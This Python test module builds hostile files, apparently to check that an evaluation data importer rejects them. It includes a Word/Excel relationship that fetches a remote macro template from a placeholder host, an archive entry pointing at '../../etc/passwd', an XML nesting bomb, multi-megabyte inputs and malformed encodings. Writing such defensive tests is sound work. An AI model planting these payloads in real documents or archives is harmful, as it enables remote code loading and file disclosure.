"""Files that somebody sends: hostile ones that are refused, and good ones that hold hostile texts."""

from itertools import count

from evaluations.importing.columns import COLUMNS, Holds, SheetKind
from evaluations.importing.sheets import MOST_COLUMNS
from tests import tables
from tests.hostile.corpus import IN_TURN
from tests.test_evidence import ALL_HOSTILE as EVIDENCE
from tests.test_importing import HOSTILE as TABLES
from tests.test_importing import NEEDED, archive, book_with, csv_of
from tests.test_transcripts import document

LONGEST = 30_000  # of a cell that a workbook can hold
# What opening it would have the whole file fetched from elsewhere.
REACHES_OUT = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r9" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://canary.example/x.dotm"/></Relationships>'
)
MORE = {
    "10 MB of brackets": b"[" * (10 * 1024 * 1024 - 1),
    "10 MB of quotation marks": b'"' * (10 * 1024 * 1024 - 1),
    "10 MB of line ends": b"\r\n" * (5 * 1024 * 1024 - 1),
    "10 MB of commas": b"a" + b"," * (10 * 1024 * 1024 - 2),
    "NUL among its cells": csv_of(["Copro\x00duction", "Barrier", "Policies", "=1+1\x00"]),
    "two encodings in one file": csv_of(["Coproduction", "Barrier", "Policies", "Café"])
    + "é".encode("utf-16-le"),
    "UTF-16 without an end": ",".join(NEEDED).encode("utf-16")[:-1],
    "halves of characters in UTF-8": ",".join(NEEDED).encode() + b"\r\n\xed\xa0\xbd,\xed\xb0\x80,a,b",
    "halves of characters as a workbook escapes them": tables.workbook(
        {"Findings": [NEEDED, ["_xD83D_", "_x0000_", "_x202E_a", "_xFFFF_"]]}
    ),
    "a workbook that takes in a template": book_with(xl___rels__workbook_dot_xml_dot_rels=REACHES_OUT),
    "a document that takes in a template": archive(
        {"word/document.xml": b"<w/>", "word/_rels/settings.xml.rels": REACHES_OUT}
    ),
    "a workbook a hundred thousand elements deep": book_with(xl__workbook_dot_xml=b"<a>" * 100_000),
    "paths in an archive": archive(
        {"../../etc/passwd": b"x", "xl/workbook.xml": b"<workbook/>", "/abs": b"x"}
    ),
    "columns without end": csv_of(["x"] * (MOST_COLUMNS + 5)),
}


def hostile_files(every=1):
    """Return ``{what: bytes}`` of files of which no form should let anything in.

    ``every`` nth of those that the readers of files are tried with by themselves, and all others.
    """
    read = {what: content for what, (content, _) in TABLES.items()}
    read |= {str(what): case[1] for what, case in EVIDENCE.items()}
    return dict([*read.items()][::every]) | MORE


# --- Hostile texts in every cell --------------------------------------------------------------------------


def cells_of(kind, start):
    """Return rows for a sheet of a kind: in each, another column holds an entry and the rest is good."""
    turn = count(start)
    good = {name: values[0] for name, values in _good(kind).items()}
    return [good | {column.label: _entry(next(turn))} for column in COLUMNS[kind]]


def _good(kind):
    """Return values that each column of a kind takes."""
    found = {}
    for column in COLUMNS[kind]:
        choices = [label for _, label in column.choices]
        words = {Holds.DATE: "14/05/2024"}.get(column.holds, "Said")
        found[column.label] = choices or [words]
    return found | {"Code": ["P1"], "Interview": ["I1"], "Strand": ["Coproduction"], "Reference": ["R1"]}


def _entry(turn):
    """Return an entry as a cell of a workbook can hold it: openpyxl refuses to write what XML forbids."""
    text = IN_TURN[turn % len(IN_TURN)].arrives[:LONGEST]
    return "".join(letter if _is_xml(letter) else f"_x{ord(letter):04X}_" for letter in text)


def _is_xml(letter):
    return (
        letter in "\t\n\r"
        or "\x20" <= letter <= "\ud7ff"
        or "\ue000" <= letter <= "\ufffd"
        or letter > "\uffff"
    )


def hostile_tables(start=0):
    """Yield ``(name, bytes)`` of workbooks and CSV files with an entry in every cell, all kinds of sheet."""
    sheets = {kind: cells_of(kind, start + at * 13) for at, kind in enumerate(SheetKind)}
    yield "hostile.xlsx", tables.workbook(sheets)
    for kind, rows in sheets.items():
        yield f"{kind}.csv", tables.comma_separated(kind, rows)


def hostile_transcripts(start=0):
    """Yield ``(name, bytes)`` of transcripts whose headings and lines are entries."""
    texts = [_entry(turn) for turn in range(start, start + 60)]
    blocks = [("Heading 1" if at % 5 == 0 else "Normal", text[:2_000]) for at, text in enumerate(texts)]
    yield "hostile.docx", document(*((style, text.replace("\r", " ")) for style, text in blocks))
    yield (
        "hostile.txt",
        "\n".join(f"# {text}" if at % 5 == 0 else text for at, (_, text) in enumerate(blocks)).encode(),
    )
